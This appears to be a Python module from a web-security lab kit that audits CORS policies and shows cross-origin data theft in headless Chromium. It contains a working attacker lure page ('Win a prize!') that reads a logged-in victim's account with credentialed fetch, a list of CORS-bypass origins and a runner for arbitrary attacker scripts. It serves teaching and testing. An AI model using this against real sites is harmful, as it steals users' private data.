"""Cross-origin reads: probe a CORS policy, then steal data with it in a real browser.

Two ways to ask "can a page on origin X read this response with the victim's cookies?":

* :func:`browser_reads` asks headless Chromium (via :mod:`labkit.browser`): the victim logs
  in on the API's origin, then an attacker page — served by another sandbox, i.e. another
  origin — runs ``fetch(url, {credentials: "include"})`` and reports what it could read.
* :func:`simulate_reads` answers the same question without a browser, by applying the
  Fetch standard's CORS check (https://fetch.spec.whatwg.org/#cors-check) and the
  cookie ``SameSite`` rules to real HTTP responses. It is a **simulation** and says so.

:func:`probe_origin` sends one request with a forged ``Origin`` header (curl-style), which is
how a CORS policy is audited; :data:`ORIGIN_BATTERY` holds the classic bypass origins.
:func:`run_page_script` runs a script of your own on the attacker's page (or in its sandboxed
iframe, or under another origin) in Chromium, with the victim logged in.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from http.cookies import SimpleCookie
from typing import TYPE_CHECKING, Any
from urllib.parse import quote, urlsplit

import httpx

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

__all__ = [
    "ATTACKER_PAGE",
    "ORIGIN_BATTERY",
    "CrossOriginRead",
    "OriginProbe",
    "ScriptRun",
    "browser_reads",
    "cors_check",
    "cross_origin_reads",
    "origin_of",
    "probe_origin",
    "run_page_script",
    "simulate_reads",
]

#: Origins that slip through the classic mistakes, by mistake (PortSwigger's list).
ORIGIN_BATTERY: dict[str, str] = {
    "reflected": "https://evil.example.net",  # any origin at all
    "null": "null",  # sandboxed iframe, data: URL
    "suffix": "https://evilapp.example.com",  # endswith("app.example.com")
    "prefix": "https://app.example.com.evil.net",  # startswith("https://app.example.com")
    "regex": "https://appxexample.com",  # r"https://app.example.com" (unescaped dots)
    "http": "http://app.example.com",  # scheme not checked
}

#: The page an attacker hosts. ``?target=<url>`` is read with the visitor's cookies;
#: ``&mode=null`` does it from a sandboxed iframe, whose opaque origin sends ``Origin: null``.
#: The outcome lands in ``window.labkitResult`` and in the page itself.
ATTACKER_PAGE = r"""<!doctype html>
<meta charset="utf-8"><title>Win a prize!</title>
<h1>Congratulations, you won!</h1>
<pre id="result">loading…</pre>
<script>
async function steal(url) {
  try {
    const response = await fetch(url, {credentials: "include"});
    return {readable: true, status: response.status, body: await response.text(), error: ""};
  } catch (error) {
    return {readable: false, status: null, body: null, error: String(error)};
  }
}
function report(result) {
  window.labkitResult = result;
  document.getElementById("result").textContent = JSON.stringify(result, null, 1);
}
const params = new URLSearchParams(location.search);
const target = params.get("target");
if (!target) {
  document.getElementById("result").textContent = "Nothing to see here.";
} else if (params.get("mode") === "null") {
  const frame = document.createElement("iframe");
  frame.sandbox = "allow-scripts";
  frame.srcdoc = "<script>(" + steal.toString() + ")(" + JSON.stringify(target) +
    ").then(r => parent.postMessage(r, '*'))<\/script>";
  addEventListener("message", event => report(event.data));
  document.body.append(frame);
} else {
  steal(target).then(report);
}
</script>
"""

_RESULT_JS = "window.labkitResult !== undefined"
_PAGE_TIMEOUT_MS = 15_000


def origin_of(url: str) -> str:
    """The serialized origin of ``url`` (``scheme://host[:port]``)."""
    parts = urlsplit(url)
    return f"{parts.scheme}://{parts.netloc}"


def cors_check(headers: Mapping[str, str], origin: str, *, credentials: bool) -> bool:
    """The Fetch standard's CORS check (https://fetch.spec.whatwg.org/#cors-check).

    ``Access-Control-Allow-Origin`` must be present; ``*`` passes only without credentials;
    otherwise it must equal the request's origin byte for byte; and with credentials
    ``Access-Control-Allow-Credentials`` must be exactly ``true``.
    """
    lower = {k.lower(): v for k, v in headers.items()}
    allow_origin = lower.get("access-control-allow-origin")
    if allow_origin is None:
        return False
    if not credentials and allow_origin == "*":
        return True
    if allow_origin != origin:
        return False
    return not credentials or lower.get("access-control-allow-credentials") == "true"


@dataclass(frozen=True)
class OriginProbe:
    """How an API answered one request carrying a forged ``Origin``."""

    origin: str
    status: int
    allow_origin: str | None
    allow_credentials: str | None
    vary: str
    readable: bool  # a page on ``origin`` could read this credentialed response

    def __repr__(self) -> str:
        verdict = "READABLE with credentials" if self.readable else "refused"
        return (
            f"{self.origin:<34} {verdict:<26} ACAO={self.allow_origin!r} "
            f"ACAC={self.allow_credentials!r} Vary={self.vary!r}"
        )


def probe_origin(
    client: httpx.Client,
    origin: str,
    *,
    path: str = "/api/account",
    preflight: str | None = None,
    cookies: Mapping[str, str] | None = None,
) -> OriginProbe:
    """Send ``GET path`` (or, with ``preflight="PUT"``, its ``OPTIONS`` preflight) from ``origin``.

    This is what a browser would send; ``readable`` applies the Fetch CORS check for a
    credentialed request to the answer.
    """
    headers = {"Origin": origin}
    if cookies:
        headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
    if preflight:
        headers["Access-Control-Request-Method"] = preflight
        headers["Access-Control-Request-Headers"] = "content-type"
        response = client.options(path, headers=headers)
    else:
        response = client.get(path, headers=headers)
    return OriginProbe(
        origin=origin,
        status=response.status_code,
        allow_origin=response.headers.get("access-control-allow-origin"),
        allow_credentials=response.headers.get("access-control-allow-credentials"),
        vary=response.headers.get("vary", ""),
        readable=cors_check(response.headers, origin, credentials=True),
    )


@dataclass(frozen=True)
class CrossOriginRead:
    """What a page on ``origin`` got when it fetched the victim's data with credentials."""

    page: str  # "attacker", "null", "frontend" or the spoofed origin
    origin: str  # the Origin the request carried
    readable: bool  # the browser handed the response to the page (the CORS check passed)
    status: int | None
    body: Any  # the parsed JSON the page read (None when it read nothing)
    error: str
    via: str  # "Chromium <version>" or "SIMULATION (...)"
    wrote: int | None = None  # the frontend's PUT (after its preflight): status, or None

    @property
    def stolen(self) -> bool:
        """The page read the victim's private data (readable, and the cookie went along)."""
        return self.readable and self.status == 200

    def __repr__(self) -> str:
        if self.stolen:
            outcome = f"READ the account: {json.dumps(self.body)[:70]}"
        elif self.readable:
            outcome = f"could read the response ({self.status}; the cookie did not go along)"
        else:
            outcome = f"blocked by the browser ({self.error or 'CORS'})"
        return f"[{self.via}] {self.origin:<34} {outcome}"


def _parse(body: Any) -> Any:
    if not isinstance(body, str):
        return body
    try:
        return json.loads(body)
    except ValueError:
        return body


def _attacker_target(attacker_url: str, url: str, *, null: bool = False) -> str:
    return f"{attacker_url.rstrip('/')}/?target={quote(url, safe='')}" + (
        "&mode=null" if null else ""
    )


def _read_page(page: Page, url: str) -> dict[str, Any]:
    page.goto(url)
    page.wait_for_function(_RESULT_JS, timeout=_PAGE_TIMEOUT_MS)
    return dict(page.evaluate("window.labkitResult"))


def _serve_from(source: str) -> Callable[[Route], None]:
    """A route handler answering with the page at ``source`` (the attacker sandbox)."""

    def handle(route: Route) -> None:
        page = route.fetch(url=source)
        route.fulfill(status=page.status, content_type="text/html", body=page.text())

    return handle


#: Runs the learner's script (the body of ``async (api) => {...}``) and reports what it
#: returned as plain JSON, or what it threw.
_RUN_SCRIPT = r"""async function labkitRun(api, source) {
  try {
    const run = new (Object.getPrototypeOf(async function () {}).constructor)("api", source);
    const value = await run(api);
    return {ok: true, value: value === undefined ? null : JSON.parse(JSON.stringify(value)),
            error: ""};
  } catch (error) {
    return {ok: false, value: null, error: String(error)};
  }
}"""
_IN_PAGE = "async ([api, source]) => { " + _RUN_SCRIPT + " return await labkitRun(api, source); }"
_IN_NULL_FRAME = (
    "async ([api, source, runner]) => await new Promise(resolve => {"
    " const frame = document.createElement('iframe');"
    " frame.sandbox = 'allow-scripts';"
    " const code = runner + '; labkitRun(' + JSON.stringify(api) + ', ' + JSON.stringify(source)"
    " + ').then(r => parent.postMessage(r, \"*\"));';"
    " frame.srcdoc = '<script>' + code.replace(/<\\//g, '<\\\\/') + '<\\/script>';"
    " addEventListener('message', e => { if (e.source === frame.contentWindow) resolve(e.data); });"
    " setTimeout(() => resolve({ok: false, value: null, error: 'no answer in 10 s'}), 10000);"
    " document.body.append(frame); })"
)


@dataclass(frozen=True)
class ScriptRun:
    """What your script returned (or threw) on one attacker page."""

    page: str  # "attacker", "null" or the spoofed origin
    origin: str  # the origin the page had (its fetches carry it as Origin)
    ok: bool  # the script returned (it did not throw)
    value: Any  # what it returned, as JSON (None when it threw or returned nothing)
    error: str
    via: str

    def __repr__(self) -> str:
        outcome = (
            f"returned {json.dumps(self.value)[:80]}" if self.ok else f"threw {self.error[:80]}"
        )
        return f"[{self.via}] {self.origin:<34} {outcome}"


def _log_victim_in(page: Page, victim_url: str, victim: tuple[str, str]) -> None:
    page.goto(victim_url.rstrip("/") + "/")
    status = page.evaluate(
        """async ([email, password]) => (await fetch("/api/auth/login", {
            method: "POST", headers: {"Content-Type": "application/json"},
            body: JSON.stringify({email, password})})).status""",
        list(victim),
    )
    if status != 200:
        raise RuntimeError(f"the victim could not log in (HTTP {status})")


def _new_context(browser: Browser) -> Any:
    try:  # Local Network Access: let spoofed public origins reach 127.0.0.1
        return browser.new_context(permissions=["local-network-access"])
    except Exception:  # an older Chromium without that permission
        return browser.new_context()


def _script_work(
    browser: Browser,
    victim_url: str,
    attacker_url: str,
    script: str,
    victim: tuple[str, str],
    pages: Sequence[str],
) -> list[ScriptRun]:
    via = f"Chromium {browser.version}"
    api = victim_url.rstrip("/")
    context = _new_context(browser)
    try:
        page = context.new_page()
        page.set_default_timeout(_PAGE_TIMEOUT_MS)
        _log_victim_in(page, victim_url, victim)
        home = attacker_url.rstrip("/") + "/"
        runs = []
        for name in pages:
            if name in ("attacker", "null"):
                page.goto(home)
                if name == "null":
                    result = page.evaluate(_IN_NULL_FRAME, [api, script, _RUN_SCRIPT])
                else:
                    result = page.evaluate(_IN_PAGE, [api, script])
                origin = "null" if name == "null" else origin_of(attacker_url)
            else:
                origin = origin_of(name)
                spoof_page = context.new_page()
                spoof_page.set_default_timeout(_PAGE_TIMEOUT_MS)
                spoof_page.route(origin + "/", _serve_from(home))
                spoof_page.goto(origin + "/")
                result = spoof_page.evaluate(_IN_PAGE, [api, script])
                spoof_page.close()
            runs.append(
                ScriptRun(
                    page=name,
                    origin=origin,
                    ok=bool(result.get("ok")),
                    value=result.get("value"),
                    error=str(result.get("error") or ""),
                    via=via,
                )
            )
        return runs
    finally:
        context.close()


def run_page_script(
    victim_url: str,
    attacker_url: str,
    script: str,
    *,
    victim: tuple[str, str],
    pages: Sequence[str] = ("attacker",),
    timeout: float = 90,
) -> list[ScriptRun]:
    """In headless Chromium: the victim logs in at ``victim_url``, then ``script`` runs on the
    attacker's page, as the body of ``async (api) => { ... }`` with ``api`` the victim site's
    URL; what it returns (as JSON) or throws is reported, one :class:`ScriptRun` per page.

    ``pages``: ``"attacker"`` (the attacker sandbox's own origin), ``"null"`` (a sandboxed
    iframe on it, whose requests carry ``Origin: null``) or an http(s) origin such as
    ``"https://evilapp.example.com"`` (the attacker page served under that origin, as if its
    DNS pointed at the attacker sandbox). Raises :class:`labkit.browser.BrowserUnavailable`
    when there is no Chromium (a script cannot be simulated).
    """
    from labkit.browser import run_in_browser

    return run_in_browser(
        lambda browser: _script_work(browser, victim_url, attacker_url, script, victim, pages),
        timeout=timeout,
    )


def _browser_work(
    browser: Browser,
    victim_url: str,
    attacker_url: str,
    victim: tuple[str, str],
    pages: Sequence[str],
    frontend_url: str | None,
    path: str,
) -> list[CrossOriginRead]:
    via = f"Chromium {browser.version}"
    context = _new_context(browser)
    try:
        page = context.new_page()
        _log_victim_in(page, victim_url, victim)
        target = victim_url.rstrip("/") + path
        reads = {}
        if frontend_url is not None:
            result = _read_page(page, frontend_url)
            reads["frontend"] = _as_read("frontend", origin_of(frontend_url), result, via)
        for name in pages:
            if name in ("attacker", "null"):
                url = _attacker_target(attacker_url, target, null=name == "null")
                origin = "null" if name == "null" else origin_of(attacker_url)
                reads[name] = _as_read(name, origin, _read_page(page, url), via)
        spoofed = [name for name in pages if name not in ("attacker", "null")]
        if spoofed:
            # A page of its own: while Playwright intercepts a page's requests it answers
            # CORS preflights itself, which would hide the API's real preflight answers.
            spoof_page = context.new_page()
            for name in spoofed:
                origin = origin_of(name)
                url = _attacker_target(origin, target)
                spoof_page.route(url, _serve_from(_attacker_target(attacker_url, target)))
                reads[name] = _as_read(name, origin, _read_page(spoof_page, url), via)
            spoof_page.close()
        order = [*pages, "frontend"]
        return [reads[name] for name in order if name in reads]
        return reads
    finally:
        context.close()


def _as_read(page: str, origin: str, result: Mapping[str, Any], via: str) -> CrossOriginRead:
    return CrossOriginRead(
        page=page,
        origin=origin,
        readable=bool(result.get("readable")),
        status=result.get("status"),
        body=_parse(result.get("body")),
        error=str(result.get("error") or ""),
        via=via,
        wrote=result.get("wrote"),
    )


def browser_reads(
    victim_url: str,
    attacker_url: str,
    *,
    victim: tuple[str, str],
    pages: Sequence[str] = ("attacker",),
    frontend_url: str | None = None,
    path: str = "/api/account",
    timeout: float = 90,
) -> list[CrossOriginRead]:
    """In headless Chromium: the victim logs in, then each page tries to read ``path``.

    ``pages``: ``"attacker"`` (the attacker sandbox's own origin), ``"null"`` (a sandboxed
    iframe on it) or an https origin such as ``"https://evilapp.example.com"`` — the
    attacker page served under that origin, as if its DNS pointed at the attacker sandbox.
    ``frontend_url``: a legitimate page that reads the API itself (the lab's frontend).
    Raises :class:`labkit.browser.BrowserUnavailable` when there is no Chromium.
    """
    from labkit.browser import run_in_browser

    return run_in_browser(
        lambda browser: _browser_work(
            browser, victim_url, attacker_url, victim, pages, frontend_url, path
        ),
        timeout=timeout,
    )


def _site(origin: str) -> tuple[str, str]:
    """(scheme, registrable domain) — simplified: an IP is its own site, else the last two
    labels (no Public Suffix List in a simulation)."""
    parts = urlsplit(origin)
    host = parts.hostname or ""
    if host.replace(".", "").isdigit() or ":" in host:
        return parts.scheme, host
    return parts.scheme, ".".join(host.split(".")[-2:])


def simulate_reads(
    victim_url: str,
    attacker_url: str,
    *,
    victim: tuple[str, str],
    pages: Sequence[str] = ("attacker",),
    frontend_url: str | None = None,
    path: str = "/api/account",
) -> list[CrossOriginRead]:
    """The same question as :func:`browser_reads`, answered by a SIMULATION over httpx.

    The victim logs in; for each page the request a browser would send is sent (``Origin``,
    and the session cookie when its ``SameSite`` attribute lets it go from that page,
    RFC 6265bis §5.7.1); the Fetch CORS check decides whether the page could read it.
    A real browser may also block third-party cookies — the simulation assumes it does not.
    """
    via = "SIMULATION (Fetch CORS check, no browser)"
    with httpx.Client(base_url=victim_url, trust_env=False, timeout=30) as client:
        login = client.post("/api/auth/login", json={"email": victim[0], "password": victim[1]})
        if login.status_code != 200:
            raise RuntimeError(f"the victim could not log in (HTTP {login.status_code})")
        jar: dict[str, tuple[str, str]] = {}
        for header in login.headers.get_list("set-cookie"):
            for name, morsel in SimpleCookie(header).items():
                jar[name] = (morsel.value, (morsel["samesite"] or "lax").lower())
        named = [(p, origin_of(attacker_url) if p == "attacker" else p) for p in pages]
        if frontend_url is not None:
            named.append(("frontend", origin_of(frontend_url)))
        reads = []
        for name, origin in named:
            origin = "null" if name == "null" else origin_of(origin)
            same_site = origin != "null" and _site(origin) == _site(origin_of(victim_url))
            cookies = {k: v for k, (v, rule) in jar.items() if same_site or rule == "none"}
            probe = probe_origin(client, origin, path=path, cookies=cookies)
            response_body, wrote = None, None
            headers = {"Origin": origin}
            if cookies:
                headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
            if probe.readable:
                response_body = _parse(client.get(path, headers=headers).text)
            if name == "frontend" and probe.readable and isinstance(response_body, dict):
                wrote = _simulated_put(client, path, headers, response_body.get("name"))
            reads.append(
                CrossOriginRead(
                    page=name,
                    origin=origin,
                    readable=probe.readable,
                    status=probe.status if probe.readable else None,
                    body=response_body,
                    error="" if probe.readable else "TypeError: Failed to fetch",
                    via=via,
                    wrote=wrote,
                )
            )
        return reads


def _simulated_put(
    client: httpx.Client, path: str, headers: Mapping[str, str], name: Any
) -> int | None:
    """The frontend's JSON PUT: its preflight must pass (Fetch §CORS-preflight fetch) first."""
    origin = headers["Origin"]
    preflight = client.options(
        path,
        headers={
            "Origin": origin,
            "Access-Control-Request-Method": "PUT",
            "Access-Control-Request-Headers": "content-type",
        },
    )
    methods = {
        m.strip().upper()
        for m in preflight.headers.get("access-control-allow-methods", "").split(",")
    }
    allowed_headers = preflight.headers.get("access-control-allow-headers", "").lower()
    if not (
        200 <= preflight.status_code < 300
        and cors_check(preflight.headers, origin, credentials=True)
        and "PUT" in methods
        and ("content-type" in allowed_headers)
    ):
        return None
    response = client.put(path, headers=dict(headers), json={"name": name})
    return response.status_code if cors_check(response.headers, origin, credentials=True) else None


def cross_origin_reads(
    victim_url: str,
    attacker_url: str,
    *,
    victim: tuple[str, str],
    pages: Sequence[str] = ("attacker",),
    frontend_url: str | None = None,
    path: str = "/api/account",
) -> list[CrossOriginRead]:
    """:func:`browser_reads` when Chromium is installed, else :func:`simulate_reads`."""
    from labkit.browser import BrowserUnavailable, find_chromium

    options: dict[str, Any] = {
        "victim": victim,
        "pages": pages,
        "frontend_url": frontend_url,
        "path": path,
    }
    if find_chromium() is not None:
        try:
            return browser_reads(victim_url, attacker_url, **options)
        except BrowserUnavailable:
            pass
    return simulate_reads(victim_url, attacker_url, **options)
